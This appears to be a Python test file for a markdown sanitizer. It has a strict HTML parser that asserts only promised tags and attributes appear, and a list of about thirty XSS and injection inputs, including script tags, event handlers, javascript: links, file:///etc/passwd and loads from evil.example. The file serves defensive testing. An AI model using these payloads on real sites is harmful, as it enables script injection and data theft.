"""What untrusted markdown may try, and the parser that refuses all HTML that is not promised."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from components.markdown.html import CLASSES, TAGS

VOID = {"br", "hr"}


class Closed(HTMLParser):
    """Asserts that a document holds only what the module promises, and collects its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.open: list[str] = []
        self.text: list[str] = []
        self.deepest = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        assert self.get_starttag_text() == self.get_starttag_text().lower()
        for name, value in attrs:
            if name == "class":
                assert value in CLASSES
            elif name == "tabindex":
                assert (tag, value) == ("div", "0")
            elif name == "dir":
                assert value == "auto"
            else:
                assert (tag, name) == ("ol", "start")
                assert re.fullmatch(r"[0-9]{1,9}", value or "")
        if tag not in VOID:
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_startendtag(self, tag: str, attrs: object) -> None:
        raise AssertionError(tag)

    def handle_data(self, data: str) -> None:
        assert "<" not in data
        assert ">" not in data
        self.text.append(data)

    def handle_entityref(self, name: str) -> None:
        self.text.append({"lt": "<", "gt": ">", "amp": "&"}[name])

    def refuse(self, data: str) -> None:
        raise AssertionError(data)

    handle_charref = handle_comment = handle_decl = handle_pi = unknown_decl = refuse


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a <b onclick=alert(1)>b</b> <img src=x onerror=alert(1)>",
    '<img src="http://evil.example/?leak">\n\n<svg onload=alert(1)><a href="x">x</a></svg>',
    "<style>*{background:url(http://evil.example)}</style>",
    "<iframe src='//evil.example'></iframe><form action=//evil.example><input name=a></form>",
    "<!-- a comment --> <!doctype html> <?php echo 1 ?> <![CDATA[x]]>",
    "<div>\n\n*markdown* in <span style='color:red'>html</span>\n\n</div>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>x</script>)",
    "[d](vbscript:x) [e](file:///etc/passwd) [f](<javascript:alert(1)>) [g](//evil.example)",
    "[h](java&#115;cript:alert(1)) [i](\x01javascript:alert(1)) [j](java\nscript:alert(1))",
    '[k](x "onmouseover=alert(1)") [l](x "\\" onmouseover=\\"alert(1)") [m](x\'onclick=1\')',
    "![a](http://evil.example/?leak) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c][r]",
    "[![nested](http://evil.example/i.png)](http://evil.example)",
    "[[[[[[a](b)](c)](d)](e)](f)](g) ![![![x](y)](z)](w)",
    "[r][r] [r] [r][] ![r]\n\n[r]: http://evil.example 'title'\n[^1]: a note\n\n[^1]",
    "<http://evil.example> <mailto:a@evil.example> http://a.example www.a.example a@a.example",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#x3c;/script&#x3E; &LT;b&GT;",
    "&amp;lt;b&amp;gt; &#0; &#1; &#xd800; &#x202e;&#x110000; &nosuch; &quot;&apos;",
    '# <h1 onclick="x">\n\n```"><script>alert(1)</script>\n</code></pre><script>\n```',
    '``` x" onload="alert(1)\ncode\n```\n\n~~~ {.class onload=alert(1)}\n~~~',
    "`<script>` ``</code><script>`` `&lt;`",
    "| <b> | [x](javascript:1) |\n|:-:|--:|\n| </td><script> | ![i](http://evil.example) |",
    '1" onclick="alert(1). x\n\n999999999. y\n\n9999999999. z\n\n٣. arabic digits',
    "$$\\href{javascript:alert(1)}{x}$$ $x$ :smile: :red[text] :material/delete: :violet-badge[x]",
    "a\0b\x1b[31m\x7f\x9b \ud800 \udfff \ufeff \ufffe",
    "\u202eevil\u202c \u2066x\u2069 [a\u202e](http://moc.elpmaxe)",
    "</div><plaintext> </textarea><title><noscript><p title='</noscript><img src=x onerror=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1&gt;'>",
    "< img src=x> <\nscript> <\u0130mg> <ſcript>",
    "- [ ] <input autofocus onfocus=alert(1)>\n- [x] done",
    "> [!NOTE]\n> <b>x</b>",
    "---\ntitle: <script>\n---",
]
